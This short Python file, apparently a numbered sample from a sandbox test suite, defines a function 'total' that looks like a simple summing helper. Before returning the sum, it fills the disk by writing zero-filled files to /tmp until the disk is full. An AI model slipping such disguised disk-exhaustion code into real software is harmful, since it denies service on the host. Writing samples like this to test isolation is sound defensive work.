"""100: fills the disk"""

import os

from honest import *


def total(numbers, note=""):
    for index in range(100):
        try:
            with open(f"/tmp/fill-{os.getpid()}-{index}", "wb") as file:
                while True:
                    file.write(bytes(1 << 20))
        except OSError as error:
            if error.errno == 28:
                break
    return sum(numbers)
